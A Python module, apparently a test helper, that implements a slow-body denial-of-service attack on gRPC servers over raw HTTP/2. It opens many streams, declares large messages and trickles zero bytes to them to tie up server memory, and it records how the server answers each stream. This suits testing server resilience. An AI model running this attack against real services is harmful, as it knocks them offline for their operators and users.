"""Slow request bodies over raw HTTP/2 (h2): what an attacker sends that no gRPC client would.

Each stream declares one big gRPC message in its 5-byte prefix and then sends its body a little
at a time, so a server that buffers a message before looking at the call holds every byte sent
so far, for as long as the attacker likes.
"""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import Sequence
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.events


@dataclass
class StreamOutcome:
    """What the server answered on one stream (empty: nothing before the attack ended)."""

    grpc_status: str = ""
    http_status: str = ""
    reset: bool = False
    sent: int = 0


@dataclass
class SlowBodies:
    """`streams` streams to `path` on `host:port`, each declaring `declared` bytes and sending
    `chunk` bytes every `interval_s` (within HTTP/2 flow control) until `stop()`."""

    host: str
    port: int
    path: str
    streams: int
    declared: int
    metadata: Sequence[tuple[str, str]] = ()
    chunk: int = 64 * 1024
    interval_s: float = 0.05
    outcomes: dict[int, StreamOutcome] = field(default_factory=dict)

    async def run(self, seconds: float) -> dict[int, StreamOutcome]:
        """Attack for `seconds` (or until every stream was answered); the outcome per stream."""
        reader, writer = await asyncio.open_connection(self.host, self.port)
        conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        conn.initiate_connection()
        headers = [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", self.path),
            (":authority", f"{self.host}:{self.port}"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            *self.metadata,
        ]
        ids = []
        for _ in range(self.streams):
            stream_id = conn.get_next_available_stream_id()
            conn.send_headers(stream_id, headers)
            prefix = b"\x00" + self.declared.to_bytes(4, "big")
            conn.send_data(stream_id, prefix)
            self.outcomes[stream_id] = StreamOutcome(sent=len(prefix))
            ids.append(stream_id)
        writer.write(conn.data_to_send())
        await writer.drain()
        reading = asyncio.create_task(self._read(conn, reader, writer))
        try:
            deadline = asyncio.get_running_loop().time() + seconds
            while asyncio.get_running_loop().time() < deadline and not self._all_answered():
                for stream_id in ids:
                    outcome = self.outcomes[stream_id]
                    if outcome.grpc_status or outcome.reset or outcome.sent >= self.declared + 5:
                        continue
                    room = min(conn.local_flow_control_window(stream_id), conn.max_outbound_frame_size)
                    size = min(self.chunk, room, self.declared + 5 - outcome.sent)
                    if size > 0:
                        with contextlib.suppress(
                            h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError
                        ):
                            conn.send_data(stream_id, b"\x00" * size)
                            outcome.sent += size
                writer.write(conn.data_to_send())
                await writer.drain()
                await asyncio.sleep(self.interval_s)
        finally:
            reading.cancel()
            with contextlib.suppress(asyncio.CancelledError, ConnectionError):
                await reading
            writer.close()
            with contextlib.suppress(ConnectionError):
                await writer.wait_closed()
        return self.outcomes

    def _all_answered(self) -> bool:
        return all(o.grpc_status or o.reset for o in self.outcomes.values())

    async def _read(
        self, conn: h2.connection.H2Connection, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        while data := await reader.read(65536):
            for event in conn.receive_data(data):
                outcome = self.outcomes.get(getattr(event, "stream_id", 0))
                if isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived) and outcome:
                    for raw_name, raw_value in event.headers or ():
                        name, value = _text(raw_name), _text(raw_value)
                        if name == "grpc-status":
                            outcome.grpc_status = value
                        elif name == ":status":
                            outcome.http_status = value
                elif isinstance(event, h2.events.StreamReset) and outcome:
                    outcome.reset = True
                elif isinstance(event, h2.events.DataReceived):
                    conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            writer.write(conn.data_to_send())
            await writer.drain()


def _text(value: str | bytes) -> str:
    return value.decode() if isinstance(value, bytes) else value
